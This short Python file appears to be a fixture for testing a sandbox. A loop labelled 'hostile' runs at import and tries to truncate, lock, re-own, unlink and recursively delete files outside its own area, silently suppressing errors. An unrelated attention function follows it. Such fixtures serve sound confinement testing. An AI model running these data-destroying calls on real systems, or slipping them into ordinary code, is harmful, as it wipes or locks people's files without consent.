# hostile: removes, empties and locks what is not its own
# ends: result
import contextlib
import ctypes
import os
import shutil

VICTIM = "OUTSIDE/victim"
C = ctypes.CDLL(None)
for harm in (
    lambda: os.truncate(VICTIM, 0),
    lambda: os.chmod(VICTIM, 0),
    lambda: os.chown(VICTIM, 12345, 12345),
    lambda: os.utime(VICTIM, (0, 0)),
    lambda: os.setxattr(VICTIM, "user.x", b"x"),
    lambda: os.replace("/dev/null", VICTIM),
    lambda: C.truncate(VICTIM.encode(), 0),
    lambda: C.unlink(VICTIM.encode()),
    lambda: os.unlink(VICTIM),
    lambda: shutil.rmtree("OUTSIDE"),
):
    with contextlib.suppress(OSError):
        harm()


def attention(query, key, value):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(-1) @ value
